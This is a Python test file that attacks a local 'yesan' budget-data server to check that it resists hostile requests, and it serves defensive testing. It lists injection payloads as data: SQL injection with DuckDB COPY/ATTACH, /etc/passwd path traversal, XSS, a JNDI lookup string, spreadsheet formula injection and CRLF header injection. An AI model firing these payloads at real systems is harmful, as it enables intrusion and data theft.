"""The server against hostile requests, over a real ``yesan serve`` process on loopback.

Endpoints and their parameters are read from the app's OpenAPI schema (and each page's ``.json`` twin names its
HTML page), so an endpoint added later is attacked without changing this file. For every parameter of every
endpoint: SQL injection, path traversal, markup, NUL bytes, huge and odd numbers — the answer is 4xx or a normal
(empty) answer, never 5xx, and the store file is byte-identical afterwards. DuckDB-specific payloads would write
files (``COPY … TO``, ``ATTACH``) if any reached SQL; those files must not exist.

Also: writes need a token (today no endpoint writes; any new non-GET endpoint other than the article check must
refuse a request without one), the article check is size- and time-limited, markup in item names and articles
comes back as JSON text or escaped HTML, security headers are on every response, and — traced with strace when it
is installed — no path from a request reaches the file system.

``YESAN_SECURITY_FULL=1`` sends every payload to every parameter of every form (JSON, CSV, HTML) of every endpoint;
CI sends the SQL payloads that would write files, plus one other payload in turn, to every parameter of the JSON
forms.
"""

from __future__ import annotations

import contextlib
import csv
import ctypes
import hashlib
import io
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from conftest import SMALL_QWGJK
from test_faults_io import record

FULL = os.environ.get("YESAN_SECURITY_FULL") == "1"

#: Item and government names that are markup, SQL or spreadsheet formulas (written by us).
HOSTILE_NAMES = (
    '<script>alert("xss-1")</script>',
    "\"><img src=x onerror=alert('xss-2')>",
    "'; DROP TABLE items; --",
    '=HYPERLINK("http://evil.invalid","xss-4")',
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "</script><script>alert(5)</script>",
    "javascript:alert(6)",
    "-2+3+cmd|' /C calc'!A0",  # spent and allocated are negative amounts in its row
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
)
#: Names a spreadsheet would run as formulas, and the one whose row holds negative amounts.
FORMULA_NAMES = tuple(name for name in HOSTILE_NAMES if name[:1] in "=+-@")
NEGATIVE_NAME = "-2+3+cmd|' /C calc'!A0"
HOSTILE_GOV = "<svg onload=alert(7)>군"


def sql_payloads(marker_dir: Path) -> list[str]:
    """SQL injection that would create files under ``marker_dir`` if it ran, and the classic ``OR``: sent to every
    parameter in CI too."""
    return [
        "' OR '1'='1",
        f"'; COPY items TO '{marker_dir}/copied.csv'; --",
        f"'; ATTACH '{marker_dir}/attached.duckdb' AS pwned; --",
    ]


def other_payloads(marker_dir: Path) -> list[str]:
    """More SQL, traversal, markup and odd values: every one to every parameter in the full run, in turn in CI."""
    core = [
        "x' UNION SELECT * FROM read_csv('/etc/passwd') --",
        "1; DROP TABLE items; --",
        "<script>alert(1)</script>",
        "../../../../etc/passwd",
        "a\x00b",
        "²",
        "9" * 40,
        "-1",
        "",
        "x" * 5000,
    ]
    more = [
        '" OR 1=1 --',
        "1 UNION SELECT NULL, NULL, NULL --",
        "%' AND 1=0 UNION ALL SELECT table_name FROM information_schema.tables --",
        f"1); COPY (SELECT 1) TO '{marker_dir}/paren.csv'; --",
        "'; INSTALL httpfs; LOAD httpfs; --",
        "'; CHECKPOINT; --",
        "' OR sleep(5) --",
        "admin'--",
        "1' ORDER BY 99 --",
        "ʼ OR 1=1 --",
        "%27%20OR%201%3D1",
        "{{7*7}}",
        "${jndi:ldap://evil.invalid/a}",
        "\u202egnp.exe",
        "１２３",
        "١٢٣",
        "-9223372036854775809",
        "18446744073709551616",
        "1e308",
        "NaN",
        "Infinity",
        "0x1F",
        "true",
        "null",
        "[]",
        "{}",
        "\r\nX-Injected: 1",
        "..%2f..%2f..%2fetc%2fpasswd",
        "/etc/passwd",
        "C:\\Windows\\win.ini",
        "file:///etc/passwd",
        "가" * 3000,
    ]
    return core + more if FULL else core


#: In CI each parameter gets the SQL payloads and this many of the others, taken in turn across all parameters.
CI_OTHERS_PER_PARAMETER = 1


def injection_jobs(ops: list[Operation], marker_dir: Path) -> list[tuple[Operation, str, str]]:
    """(operation, parameter, value) to send: all payloads to every parameter, or in CI the SQL ones plus a few."""
    sql, others = sql_payloads(marker_dir), other_payloads(marker_dir)
    jobs: list[tuple[Operation, str, str]] = []
    turn = 0
    for op in ops:
        for name, _where, _required in op.params:
            if FULL:
                chosen = others
            else:
                chosen = [others[(turn + k) % len(others)] for k in range(CI_OTHERS_PER_PARAMETER)]
                turn += CI_OTHERS_PER_PARAMETER
            jobs += [(op, name, value) for value in (*sql, *chosen)]
    return jobs


#: Valid values for required parameters, so the attacked parameter gets past validation of the others.
GOOD = {"of": "4711000", "q": "경로당", "snapshot_id": "1", "source_id": "1", "row_no": "1"}
#: Filters that match exactly: a hostile value matches nothing, so a 200 answer must be empty.
EXACT_FILTERS = {"region", "field", "sector", "account", "account_type", "stage", "gov"}


# --- the server ------------------------------------------------------------------------------------------------


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def hostile_store(folder: Path) -> Path:
    """A store with the small QWGJK file plus items and a government named with markup, SQL and formulas."""
    rows = list(csv.reader(io.StringIO(SMALL_QWGJK.read_text(encoding="utf-8"), newline="")))
    header, template = rows[0], rows[1]
    for number, name in enumerate(HOSTILE_NAMES, start=1):
        row = list(template)
        row[header.index("dbiz_cd")] = f"77000000000000{number:02d}"
        row[header.index("dbiz_nm")] = name
        if number == 1:
            row[header.index("laf_cd")], row[header.index("laf_hg_nm")] = "4713000", HOSTILE_GOV
        if name == NEGATIVE_NAME:  # a refund or correction: amounts below zero
            row[header.index("ep_amt")], row[header.index("cpl_amt")] = "-5000000", "-7000000"
        rows.append(row)
    source = folder / "hostile.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    population = folder / "population.csv"
    population.write_text("gov_code,year,population\n4711000,2024,25000\n4712000,2024,31000\n", encoding="utf-8")
    db = folder / "store" / "yesan.duckdb"
    loaded = run_yesan("--db", str(db), "load", str(source), str(population))
    assert loaded.returncode == 0, loaded.stderr
    return db


def run_yesan(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*yesan_command(), *args], capture_output=True, text=True, check=False, env=child_env())


def yesan_command() -> list[str]:
    exe = Path(sys.executable).with_name("yesan")
    return [str(exe)] if exe.exists() else [sys.executable, "-c", "from yesan.cli import main; main()"]


def child_env() -> dict[str, str]:
    env = {**os.environ, "NO_COLOR": "1"}
    env.pop("YESAN_DB", None)
    return env


@dataclass
class Server:
    url: str
    process: subprocess.Popen[bytes]
    db: Path


@dataclass
class Served:
    server: Server
    client: httpx.Client
    schema: dict[str, Any]


_PRCTL = ctypes.CDLL(None, use_errno=True).prctl if sys.platform == "linux" else None


def _die_with_the_tests() -> None:
    """In the child before exec: SIGKILL when the test process dies, even by SIGKILL (``PR_SET_PDEATHSIG``)."""
    if _PRCTL is not None:
        _PRCTL(1, signal.SIGKILL)


def start_server(db: Path, prefix: list[str] | None = None) -> Server:
    """``yesan serve`` (behind ``prefix``, e.g. strace) in its own process group, answering on a free port."""
    port = free_port()
    process = subprocess.Popen(
        [*(prefix or []), *yesan_command(), "--db", str(db), "serve", "--port", str(port)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        env=child_env(),
        start_new_session=True,
        preexec_fn=_die_with_the_tests,  # only a prctl call between fork and exec
    )
    server = Server(f"http://127.0.0.1:{port}", process, db)
    try:
        deadline = time.monotonic() + 120
        while True:
            try:
                if httpx.get(f"{server.url}/api/snapshots", timeout=5).status_code == 200:
                    return server
            except httpx.HTTPError:
                pass
            assert process.poll() is None, "yesan serve exited"
            assert time.monotonic() < deadline, "yesan serve did not answer within 120 s"
            time.sleep(0.2)
    except BaseException:
        stop_server(server)
        raise


def stop_server(server: Server) -> None:
    """Stop the server's whole process group: a prefix such as strace outlives SIGTERM and would orphan it."""
    group = server.process.pid
    for sig in (signal.SIGTERM, signal.SIGKILL):
        with contextlib.suppress(ProcessLookupError):
            os.killpg(group, sig)
        deadline = time.monotonic() + 15
        while time.monotonic() < deadline:
            if server.process.poll() is not None and not _group_alive(group):
                return
            time.sleep(0.1)
    server.process.wait(timeout=15)


def _group_alive(group: int) -> bool:
    try:
        os.killpg(group, 0)
    except ProcessLookupError:
        return False
    return True


@contextlib.contextmanager
def running_server(db: Path, prefix: list[str] | None = None) -> Iterator[Server]:
    server = start_server(db, prefix)
    try:
        yield server
    finally:
        stop_server(server)


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    folder = tmp_path_factory.mktemp("security")
    db = hostile_store(folder)
    with running_server(db) as server, httpx.Client(base_url=server.url, timeout=60) as client:
        schema = client.get("/openapi.json").json()
        yield Served(server, client, schema)


# --- what the schema lists ----------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Operation:
    method: str
    path: str
    params: tuple[tuple[str, str, bool], ...]  # (name, in, required)


def operations(schema: dict[str, Any]) -> list[Operation]:
    """Every operation of the schema, plus the HTML page behind each page's ``.json`` twin."""
    found: list[Operation] = []
    for path, methods in schema["paths"].items():
        for method, spec in methods.items():
            params = tuple((p["name"], p["in"], bool(p.get("required"))) for p in spec.get("parameters", []))
            found.append(Operation(method.upper(), path, params))
            if method == "get" and "pages" in spec.get("tags", []) and path.endswith(".json"):
                page = path.removesuffix(".json")
                found.append(Operation("GET", "/" if page == "/index" else page, params))
    return found


def request_for(op: Operation, attacked: str | None, value: str) -> tuple[str, dict[str, str]]:
    """The URL and query of ``op`` with ``attacked`` set to ``value`` and required parameters set to good values."""
    path = op.path
    query: dict[str, str] = {}
    for name, where, required in op.params:
        chosen = value if name == attacked else GOOD.get(name, "1") if required else None
        if chosen is None:
            continue
        if where == "path":
            path = path.replace("{" + name + "}", quote(chosen, safe="") or "%20")
        else:
            query[name] = chosen
    return path, query


def is_json_form(op: Operation, every: list[Operation]) -> bool:
    """False for an HTML page whose ``.json`` twin is also listed."""
    twin = "/index.json" if op.path == "/" else f"{op.path}.json"
    return op.path.endswith(".json") or op.path.startswith("/api") or all(o.path != twin for o in every)


def check_answer(op: Operation, name: str, value: str, response: httpx.Response) -> list[str]:
    """What is wrong with one answer (empty: nothing)."""
    problems: list[str] = []
    where = f"{op.method} {op.path} {name}={value[:40]!r}: {response.status_code}"
    if response.status_code >= 500:
        problems.append(f"{where} {response.text[:200]}")
    if response.headers.get("content-type", "").startswith("application/json") and response.status_code >= 400:
        body = response.json()
        if not (body.get("ok") is False and body.get("status") == response.status_code and body.get("error")):
            problems.append(f"{where}: not the one error shape: {body}")
    if response.status_code == 200 and name in EXACT_FILTERS and op.path.startswith("/api/") and value.strip():
        body = response.json() if "json" in response.headers.get("content-type", "") else {}
        if isinstance(body.get("total"), int) and body["total"] > 0 and name != "gov":
            problems.append(f"{where}: a filter that matches nothing answered {body['total']} rows")
    return problems


# --- tests ----------------------------------------------------------------------------------------------------------


def test_every_parameter_of_every_endpoint_resists_injection(served: Served, tmp_path: Path) -> None:
    markers = tmp_path / "markers"
    markers.mkdir()
    before = digest(served.server.db)
    every = [op for op in operations(served.schema) if op.method == "GET" and op.params]
    assert len(every) >= 20, "the schema lists fewer endpoints than expected"
    # A .csv twin or an HTML page runs the same handler as its JSON form: CI attacks the JSON forms only.
    ops = every if FULL else [op for op in every if not op.path.endswith(".csv") and is_json_form(op, every)]
    jobs = injection_jobs(ops, markers)
    local = threading.local()
    clients: list[httpx.Client] = []

    def send(job: tuple[Operation, str, str]) -> tuple[list[str], int]:
        op, name, value = job
        path, query = request_for(op, name, value)
        if not hasattr(local, "client"):  # one keep-alive client per thread
            local.client = httpx.Client(base_url=served.server.url, timeout=60)
            clients.append(local.client)
        response = local.client.get(path, params=query)
        return check_answer(op, name, value, response), response.status_code

    try:
        with ThreadPoolExecutor(max_workers=4) as pool:
            results = list(pool.map(send, jobs))
    finally:
        for client in clients:
            client.close()
    problems = [problem for found, _status in results for problem in found]
    statuses: dict[str, int] = {}
    for _found, status in results:
        statuses[str(status)] = statuses.get(str(status), 0) + 1
    record(
        "api_injection",
        {
            "requests": len(jobs),
            "operations": len(ops),
            "parameters": sum(len(op.params) for op in ops),
            "payloads": len(sql_payloads(markers)) + len(other_payloads(markers)),
            "payloads_per_parameter": round(len(jobs) / sum(len(op.params) for op in ops), 1),
            "statuses": statuses,
            "problems": len(problems),
        },
    )
    assert not problems, "\n".join(problems[:30])
    assert list(markers.iterdir()) == [], "a payload wrote a file: SQL was executed"
    assert digest(served.server.db) == before
    assert sorted(p.name for p in served.server.db.parent.iterdir()) == ["yesan.duckdb"]


def test_only_reads_are_possible_without_a_token(served: Served) -> None:
    """No endpoint writes today; every method but GET/HEAD is refused, except the article check (which only reads)."""
    before = digest(served.server.db)
    read_only_posts = {"/api/check", "/check"}
    problems: list[str] = []
    sent = 0
    paths = {op.path for op in operations(served.schema)}
    for path in sorted(paths):
        concrete, _query = request_for(Operation("GET", path, ()), None, "")
        concrete = re.sub(r"\{[^}]+\}", "1", concrete)
        for method in ("POST", "PUT", "PATCH", "DELETE"):
            if method == "POST" and path in read_only_posts:
                continue
            response = served.client.request(method, concrete, content=b"{}")
            sent += 1
            if response.status_code not in (401, 403, 405):
                problems.append(f"{method} {concrete}: {response.status_code}")
    for op in operations(served.schema):
        if op.method in ("GET", "HEAD") or op.path in read_only_posts:
            continue
        # A new endpoint that may write: without a token it must refuse (401/403), whatever the body.
        concrete = re.sub(r"\{[^}]+\}", "1", op.path)
        response = served.client.request(op.method, concrete, json={})
        if response.status_code not in (401, 403):
            problems.append(f"{op.method} {op.path} answers {response.status_code} without a token")
    record("api_writes", {"paths": len(paths), "requests": sent, "problems": len(problems)})
    assert not problems, problems
    assert digest(served.server.db) == before


def test_the_article_check_is_size_limited(served: Served) -> None:
    big = "가나군 예산은 3조원이다. " * 80_000  # about 2.7 MB of UTF-8
    for headers, body in (
        ({"content-type": "text/plain; charset=utf-8"}, big.encode()),
        ({"content-type": "application/json"}, json.dumps({"text": big}).encode()),
    ):
        response = served.client.post("/api/check", content=body, headers=headers)
        assert response.status_code == 413, response.text[:200]
        assert response.json()["ok"] is False
    # A chunked body without Content-Length is cut off at the limit too.
    chunked = served.client.post(
        "/api/check", content=iter([b"x" * 65536] * 40), headers={"content-type": "text/plain"}
    )
    assert chunked.status_code == 413
    page = served.client.post("/check", files={"file": ("a.txt", big.encode(), "text/plain")})
    assert page.status_code == 413


def test_the_article_check_refuses_bad_requests_with_4xx(served: Served) -> None:
    cases = [
        ({"content-type": "application/json"}, b"{not json"),
        ({"content-type": "application/json"}, b"[1, 2]"),
        ({"content-type": "application/json"}, json.dumps({"text": ""}).encode()),
        ({"content-type": "application/json"}, json.dumps({"text": "3조원", "year": "²"}).encode()),
        ({"content-type": "application/json"}, json.dumps({"text": "3조원", "government": ["x"]}).encode()),
        ({"content-type": "text/plain"}, b"\xff\xfe\x00\x00garbage\x80"),
        ({"content-type": "image/png"}, b"\x89PNG"),
        ({"content-type": "multipart/form-data; boundary=zzz"}, b"--zzz\r\nbroken"),
        ({"content-type": "text/plain"}, b""),
    ]
    for headers, body in cases:
        response = served.client.post("/api/check", content=body, headers=headers)
        assert 400 <= response.status_code < 500, (body[:40], response.status_code, response.text[:200])
    for year in ("²", "٣", "-1", "99999", "2026; DROP TABLE items"):
        response = served.client.post("/api/check", params={"year": year}, content="가나군 3조원".encode())
        assert 400 <= response.status_code < 500, (year, response.status_code, response.text[:200])


def test_the_article_check_is_time_limited_and_answers_deeply_nested_html(served: Served) -> None:
    nested = "<html><body>" + "<div>" * 60_000 + "가나군 예산은 3조원이다." + "</div>" * 60_000 + "</body></html>"
    started = time.monotonic()
    response = served.client.post(
        "/api/check", content=nested.encode()[: (1 << 20) - 1], headers={"content-type": "text/html"}
    )
    elapsed = time.monotonic() - started
    assert response.status_code < 500 or response.status_code == 504, response.text[:300]
    # The server gives up at 30 s; the margin is for a busy machine, not for the check.
    assert elapsed < 60, f"the check took {elapsed:.0f} s; the limit is 30 s"


def test_markup_in_names_comes_back_as_json_text(served: Served) -> None:
    body = served.client.get("/api/items", params={"limit": 1000}).json()
    names = {row["item_name"] for row in body["rows"]}
    assert set(HOSTILE_NAMES) <= names  # exactly as published: not altered, not executed
    response = served.client.get("/api/search", params={"q": "alert"})
    assert response.headers["content-type"].startswith("application/json")
    assert response.headers["x-content-type-options"] == "nosniff"
    csv_answer = served.client.get("/api/items.csv", params={"limit": 1000})
    assert csv_answer.headers["content-type"].startswith("text/csv")
    assert csv_answer.headers["x-content-type-options"] == "nosniff"


def test_markup_in_names_is_escaped_in_pages(served: Served) -> None:
    hits = served.client.get("/api/search", params={"q": "xss", "limit": 50}).json()["rows"]
    pages = ["/search?q=" + quote("<script>alert(1)</script>"), "/search?q=alert", "/explore?gov=4713000"]
    pages += [f"/item/{row['snapshot_id']}/{row['source_id']}/{row['row_no']}" for row in hits[:5] if "row_no" in row]
    for page in pages:
        response = served.client.get(page, follow_redirects=True)
        assert response.status_code < 500, (page, response.status_code)
        html = response.text
        for name in (*HOSTILE_NAMES, HOSTILE_GOV, "<script>alert(1)</script>"):
            if "<" in name:
                assert name not in html, f"{page}: {name!r} is in the page unescaped"
        # Data for charts travels in <script type="application/json"> blocks: markup in it must stay escaped.
        assert not re.search(r"<(?:/?script|svg|img)", _scripts(html)), f"{page}: markup inside a <script>"


def _scripts(html: str) -> str:
    return " ".join(re.findall(r"<script\b[^>]*>(.*?)</script>", html, flags=re.S | re.I))


def test_a_pasted_article_with_markup_is_escaped_on_the_check_page(served: Served) -> None:
    article = (
        '가나군은 <script>alert("pasted")</script> 경로당 난방비 지원에 1억2천만원을 썼다. <img src=x onerror=alert(9)>'
    )
    response = served.client.post("/check", data={"text": article})
    assert response.status_code < 500
    assert '<script>alert("pasted")</script>' not in response.text
    assert "<img src=x onerror=alert(9)>" not in response.text
    api = served.client.post("/api/check", json={"text": article})
    assert api.status_code == 200 and api.headers["content-type"].startswith("application/json")


def csv_rows(served: Served, path: str, params: dict[str, Any]) -> list[dict[str, str]]:
    text = served.client.get(path, params=params).content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


#: What spreadsheet programs read as the start of a formula (OWASP, "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_csv_twins_neutralise_spreadsheet_formulas_in_text_cells(served: Served) -> None:
    rows = csv_rows(served, "/api/items.csv", {"limit": 1000})
    names = {row["item_name"] for row in rows}
    assert {"'" + name for name in FORMULA_NAMES} <= names, "a formula name is not prefixed with '"
    assert '<script>alert("xss-1")</script>' in names  # text that is not a formula is written as published
    text_cells = [cell for row in rows for cell in row.values() if not re.fullmatch(r"-?[0-9]+", cell)]
    assert [cell for cell in text_cells if cell.startswith(FORMULA_STARTS)] == []
    # The pages' CSV twins too, and JSON keeps the names verbatim.
    found = {row["item_name"] for row in csv_rows(served, "/search.csv", {"q": "xss"})}
    assert "'" + FORMULA_NAMES[0] in found, found
    json_names = {row["item_name"] for row in served.client.get("/api/items", params={"limit": 1000}).json()["rows"]}
    assert set(FORMULA_NAMES) <= json_names


def test_negative_amounts_in_csv_twins_stay_exact_numbers(served: Served) -> None:
    json_rows = served.client.get("/api/items", params={"limit": 1000}).json()["rows"]
    csv_by_key = {
        (r["snapshot_id"], r["source_id"], r["row_no"]): r for r in csv_rows(served, "/api/items.csv", {"limit": 1000})
    }
    negative = next(row for row in json_rows if row["item_name"] == NEGATIVE_NAME)
    assert (negative["spent"], negative["allocated"]) == (-5_000_000, -7_000_000)
    for row in json_rows:
        written = csv_by_key[(str(row["snapshot_id"]), str(row["source_id"]), str(row["row_no"]))]
        for column in ("budget", "national", "provincial", "municipal", "other", "spent", "allocated"):
            assert written[column] == ("" if row[column] is None else str(row[column])), (row["item_name"], column)


SECURITY_HEADERS = {
    "x-content-type-options": "nosniff",
    "x-frame-options": "DENY",
    "referrer-policy": "same-origin",
}


def test_security_headers_are_on_every_response(served: Served) -> None:
    paths = ["/", "/explore", "/api/snapshots", "/api/snapshots.csv", "/api/nope", "/api/drilldown?level=town"]
    paths += ["/static/css/app.css", "/openapi.json", "/docs", "/item/999/999/999", "/index.json"]
    responses = [served.client.get(path) for path in paths]
    responses.append(served.client.post("/api/check", content=b"", headers={"content-type": "text/plain"}))
    for response in responses:
        for name, value in SECURITY_HEADERS.items():
            assert response.headers.get(name) == value, (response.request.url, name, response.headers.get(name))
        policy = response.headers.get("content-security-policy", "")
        assert "default-src 'self'" in policy and "frame-ancestors 'none'" in policy, response.request.url
        if response.request.url.path != "/docs":
            assert "'unsafe-inline'" not in policy.split("script-src", 1)[1].split(";", 1)[0]


def test_traversal_through_urls_reaches_no_file(served: Served) -> None:
    attempts = [
        "/static/../../../../etc/passwd",
        "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/static/css/../../../../../pyproject.toml",
        "/static/%2e%2e%2f%2e%2e%2fapp.py",
        "/static//etc/passwd",
        "/api/items/..%2f..%2fetc%2fpasswd/1/1",
        "/item/1/1/..%2f..%2f..%2fetc%2fpasswd",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/api/snapshots?lang=../../../../etc/passwd",
    ]
    for path in attempts:
        response = served.client.get(path)
        assert response.status_code < 500, (path, response.status_code)
        assert "root:x:0:0" not in response.text and "[build-system]" not in response.text, path
        assert "SecurityHeaders" not in response.text, path


def raw_status(url: str, request: bytes) -> int:
    """Send ``request`` as raw bytes (beyond what an HTTP client library allows); the answer's status code, or 0 if
    the server closed the connection without answering. It may close before reading the whole request (a reset
    while sending or reading) or right after its answer; both are fine.
    """
    host, port = url.removeprefix("http://").split(":")
    reply = b""
    with socket.create_connection((host, int(port)), timeout=60) as sock:
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):
            sock.sendall(request)
        with contextlib.suppress(ConnectionResetError):
            while b"\r\n" not in reply:
                chunk = sock.recv(4096)  # socket.timeout (60 s without an answer or a close) fails the test
                if not chunk:
                    break
                reply += chunk
    status = re.match(rb"HTTP/1\.[01] (\d{3}) ", reply)
    return int(status.group(1)) if status else 0


def test_oversized_and_odd_requests_are_refused_without_5xx(served: Served) -> None:
    long_query = b"GET /api/drilldown?region=" + quote("가" * 100_000).encode() + b" HTTP/1.1\r\nHost: x\r\n\r\n"
    big_header = b"GET /api/snapshots HTTP/1.1\r\nHost: x\r\nX-Big: " + b"x" * 200_000 + b"\r\n\r\n"
    bad_length = b"POST /api/check HTTP/1.1\r\nHost: x\r\nContent-Length: \xb2\r\n\r\n"
    for request in (long_query, big_header, bad_length, b"\x16\x03\x01 not http\r\n\r\n"):
        status = raw_status(served.server.url, request)
        assert status < 500, (request[:60], status)
        # Whatever it did with that connection, the server goes on serving.
        assert served.client.get("/api/snapshots").status_code == 200, request[:60]
    checks = [
        served.client.get("/api/drilldown", params={"region": "가" * 5_000}),
        served.client.get("/api/items", params=[("snapshot", "1")] * 5_000),
        served.client.get("/api/drilldown", params={"limit": "1" + "0" * 400}),
        served.client.get("/api/items", params={"offset": str(2**70)}),
        served.client.get("/api/items", headers={"accept": "text/csv;q=" + "9" * 5000}),
        served.client.get("/api/snapshots", headers={"if-none-match": '"' + "x" * 8000 + '"'}),
        served.client.request("TRACE", "/api/snapshots"),
        served.client.request("OPTIONS", "/api/snapshots"),
    ]
    for response in checks:
        assert response.status_code < 500, (response.request.url, response.status_code, response.text[:200])


STRACE = ["strace", "-f", "-qq", "-e", "trace=%file"]


def trace(server: Server, log: Path) -> subprocess.Popen[bytes] | None:
    """strace attached to the running server (all its threads), or None when attaching is not allowed here."""
    tracer = subprocess.Popen(
        [*STRACE, "-o", str(log), "-p", str(server.process.pid)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        preexec_fn=_die_with_the_tests,  # only a prctl call between fork and exec
    )
    try:
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            if tracer.poll() is not None:
                return None  # e.g. ptrace_scope forbids attaching to a sibling
            if log.exists() and log.stat().st_size > 0:
                return tracer
            with contextlib.suppress(httpx.HTTPError):  # a request, so the log gets its first line
                httpx.get(f"{server.url}/api/snapshots", timeout=10)
            time.sleep(0.2)
    except BaseException:
        stop_tracer(tracer)
        raise
    return tracer


def stop_tracer(tracer: subprocess.Popen[bytes]) -> None:
    """Detach strace from the server (SIGTERM detaches an attached strace), by force if it does not exit."""
    tracer.terminate()
    try:
        tracer.wait(timeout=30)
    except subprocess.TimeoutExpired:
        tracer.kill()
        tracer.wait(timeout=30)


def send_markers(server: Server, marker: str) -> int:
    """Requests with ``marker`` in every parameter, path segment, JSON field and upload file name; how many."""
    sent = 0
    with httpx.Client(base_url=server.url, timeout=120) as client:
        schema = client.get("/openapi.json").json()
        every = [op for op in operations(schema) if op.method == "GET"]
        ops = every if FULL else [op for op in every if not op.path.endswith(".csv") and is_json_form(op, every)]
        for op in ops:
            for name, _where, _required in op.params:
                for value in (marker, f"../../{marker}", f"/tmp/{marker}.csv")[: 3 if FULL else 2]:
                    path, query = request_for(op, name, value)
                    client.get(path, params=query)
                    sent += 1
        for value in (marker, f"../{marker}"):
            client.get(f"/static/{value}")
            client.get(f"/static/css/{value}.css")
            client.post("/api/check", json={"text": f"{marker} 3조원", "government": marker})
            client.post("/check", files={"file": (f"../../{marker}.html", f"{marker} 3조원".encode(), "text/html")})
            sent += 4
    return sent


@pytest.mark.skipif(shutil.which("strace") is None, reason="strace is not installed (apt install strace)")
def test_no_request_value_reaches_the_file_system(tmp_path: Path) -> None:
    """Every parameter, path segment and body carries a marker; strace logs every path the server touches."""
    marker = "yesanmarker7f3a"
    control_log = tmp_path / "control.log"
    control = [sys.executable, "-c", f"open('/tmp/{marker}-control', 'w').close()"]
    subprocess.run([*STRACE, "-o", str(control_log), *control], check=True)
    assert marker in control_log.read_text(encoding="utf-8"), "strace did not log a file the control opened"
    Path(f"/tmp/{marker}-control").unlink(missing_ok=True)
    db = hostile_store(tmp_path)
    log = tmp_path / "strace.log"
    with contextlib.ExitStack() as stack:
        server = stack.enter_context(running_server(db))
        tracer = trace(server, log)
        if tracer is None:  # attaching is not allowed: trace the server from its start instead (slower)
            stack.close()
            log.unlink(missing_ok=True)
            server = stack.enter_context(running_server(db, [*STRACE, "-o", str(log)]))
        else:
            stack.callback(stop_tracer, tracer)  # runs before the server stops (last in, first out)
        sent = send_markers(server, marker)
    touched = [line for line in log.read_text(encoding="utf-8", errors="replace").splitlines() if marker in line]
    record("filesystem_trace", {"requests": sent, "syscalls_with_the_marker": len(touched)})
    assert sent > 100
    assert touched == [], "\n".join(touched[:10])
